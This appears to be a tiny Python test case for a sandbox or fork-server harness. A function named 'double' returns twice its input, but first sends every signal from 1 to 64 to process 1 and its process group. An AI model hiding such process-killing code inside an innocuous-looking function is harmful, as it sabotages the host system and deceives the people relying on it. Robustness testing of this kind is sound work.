# Every signal to process 1, which is the fork server, and to its group.
# loses: nothing

# %% double
def double(x):
    for number in range(1, 65):
        come_true(lambda: os.kill(1, number), lambda: os.killpg(1, number))
    return 2 * x
